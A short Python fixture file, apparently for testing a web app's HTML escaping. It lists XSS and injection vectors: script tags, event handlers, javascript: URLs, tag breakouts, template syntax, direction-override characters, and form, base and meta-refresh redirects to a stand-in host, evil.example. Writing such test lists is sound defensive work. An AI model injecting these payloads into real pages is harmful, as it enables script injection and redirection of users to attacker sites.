"""Texts that would do harm if a page let them."""

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><iframe srcdoc='<script>alert(1)</script>'>",
    "\u202e<b>backwards</b>\u202c",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "javascript:alert(1)//\n<plaintext>",
    "<form action=//evil.example><button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
]
"""One of each family of the public lists: elements, attributes, ways out of a tag, templates, directions."""

HARMLESS = {
    "a", "article", "b", "bdi", "blockquote", "body", "button", "caption", "code", "dd", "details",
    "dialog", "div", "dl", "dt", "fairword-form", "fieldset", "form", "h1", "h2", "head", "header",
    "html", "i", "img", "input", "kbd", "label", "legend", "li", "link", "main", "mark", "meta", "nav",
    "ol", "option", "output", "p", "q", "rect", "script", "section", "select", "span", "strong",
    "summary", "svg", "table", "tbody", "td", "textarea", "th", "thead", "time", "title", "tr", "ul",
}  # fmt: skip
"""Elements of our own templates."""
